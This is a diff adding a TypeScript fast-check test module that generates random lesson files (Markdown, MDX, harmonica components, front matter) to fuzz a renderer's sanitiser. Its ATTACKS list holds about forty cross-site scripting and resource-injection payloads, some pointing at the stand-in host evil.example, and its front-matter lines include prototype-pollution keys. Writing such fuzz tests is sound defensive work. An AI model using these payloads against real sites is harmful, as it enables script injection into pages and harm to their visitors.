@@ -1,0 +1,59 @@
+/** Texts of lessons at random: Markdown, MDX, HTML, blocks, and what somebody would write who wants a script on the page. */
+import fc from 'fast-check';
+import { blockText } from '../notation/arbitrary.ts';
+
+const ATTACKS = [
+  '<script>PLANTED()</script>', '<SCRIPT SRC="//evil.example/x.js" />', '<img src="x" onerror="PLANTED()" />', '<img src={"https://evil.example/a.png"} />',
+  '<a href="javascript:PLANTED()">a</a>', '<a href={"java\\tscript:PLANTED()"}>a</a>', '[a](javascript:PLANTED())', '[a](java&#x09;script:PLANTED())',
+  '![a](https://evil.example/a.png)', '[a]: javascript:PLANTED()\n\n[a]', '<svg><script>PLANTED()</script></svg>', '<svg onload="PLANTED()" />',
+  '<iframe src="https://evil.example" />', '<form action="https://evil.example"><button>a</button></form>', '<Fragment set:html="<script>PLANTED()</script>" />',
+  '<div set:html={"<img src=x onerror=PLANTED()>"} />', '<style>{`*{background:url(//evil.example)}`}</style>', '<link rel="stylesheet" href="//evil.example" />',
+  '<meta http-equiv="refresh" content="0;url=//evil.example" />', '<base href="//evil.example" />', '<object data="//evil.example" />', '<embed src="//evil.example" />',
+  '<a href="#" ping="//evil.example">a</a>', '<img srcset="//evil.example/a 2x" src="media/a.svg" />', '<p style="background:url(//evil.example)">a</p>',
+  '<math><mtext><script>PLANTED()</script></mtext></math>', '<a xlink:href="javascript:PLANTED()">a</a>', '<animate attributeName="href" values="javascript:PLANTED()" />',
+  '{PLANTED()}', '{globalThis.PLANTED}', '{"<script>PLANTED()</script>"}', '<div {...{onClick: "PLANTED()"}} />', '<div onclick="PLANTED()">a</div>',
+  'import x from "node:fs"', 'export const x = PLANTED()', '<HarpMap onclick="PLANTED()" />', '<Clip src="https://evil.example/a.mp3" onerror="PLANTED()" />',
+  '<Clip src="javascript:PLANTED()" />', '<!-- <script>PLANTED()</script> -->', '<details open ontoggle="PLANTED()">a</details>', '<video src="https://evil.example/a" autoplay />',
+  '<a href="data:text/html,<script>PLANTED()</script>">a</a>', '<a href="//evil.example" target="_blank">a</a>', '<template><script>PLANTED()</script></template>',
+]; // biome-ignore format: a list to read across
+
+const PIECES = [
+  '# Heading\n\n', '## Über *ê*\n\n', 'Words. ', '\n\n', '\n', '- ', '  - ', '> ', '1. ', '| a | b |\n|---|---|\n| c | d |\n\n', '[^1]', '[^1]: A note.\n\n',
+  '**', '*', '`', '```\n', '~~~', '[a](first)', '[b](media/a.svg)', '![c](media/a.svg)', '[d][e]', '[e]: first\n\n', '<HarpMap />', '<RoleTable chords="I7" />',
+  '<FormChart form="twelve-bar" />', '<BendLadder hole="3" />', '<Clip src="media/a.mp3" />', '<b>', '</b>', '<div>', '</div>', '<br/>', '{', '}', '{/* c */}', '&amp;', '&#x3c;',
+  '&lt;script&gt;', '\\', '\\<', '\t', '$x$', ':::', '---\n', '\u0000', '\ud800', '\u202e', 'https://example.org/?a=b&c', '<https://example.org>', '<', '>', '"', "'", '=',
+]; // biome-ignore format: a list to read across
+
+const block = fc
+  .oneof(blockText, fc.constantFrom('4 4 4 4', '99', '<first/0>', '<lesson/0> |]', 'id: x\n4 -4 5 -5'))
+  .map((text) => `\n\n\`\`\`tab\n${text}\n\`\`\`\n\n`);
+const frontMatterLine = fc.oneof(
+  fc.constantFrom('title: A lesson', 'title: <script>PLANTED()</script>', 'title: "\u0000"', 'requires: first', 'requires: [first, none]', 'requires: lesson', 'teaches: bends',
+    'harp: A', 'harp: X', 'stage: one', 'draft: true', 'minutes: 20', 'minutes: 1e99', 'summary: "&lt;b&gt; <i>"', 'keyy: 1', '__proto__: 1', 'constructor: {}', 'title: [a', '- a', '&a [*a]', ': :', 'a: b: c', '\t'),
+  fc.string({ maxLength: 8 }),
+); // biome-ignore format: a list to read across
+
+/** The Markdown of a lesson. */
+export const bodyText: fc.Arbitrary<string> = fc
+  .array(
+    fc.oneof(
+      { weight: 8, arbitrary: fc.constantFrom(...PIECES) },
+      { weight: 2, arbitrary: fc.constantFrom(...ATTACKS) },
+      { weight: 1, arbitrary: block },
+      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) },
+      // Cut somewhere, so that what is open stays open.
+      {
+        weight: 1,
+        arbitrary: fc.tuple(fc.constantFrom(...ATTACKS), fc.nat(60)).map(([text, end]) => text.slice(0, end)),
+      },
+    ),
+    { maxLength: 24 },
+  )
+  .map((pieces) => pieces.join(''));
+
+/** A whole lesson. */
+export const lessonFile: fc.Arbitrary<string> = fc
+  .tuple(fc.array(frontMatterLine, { maxLength: 5 }), bodyText, fc.boolean())
+  .map(([lines, body, whole]) =>
+    whole ? `---\n${['title: A lesson', ...lines].join('\n')}\n---\n\n${body}` : `${lines.join('\n')}${body}`,
+  );
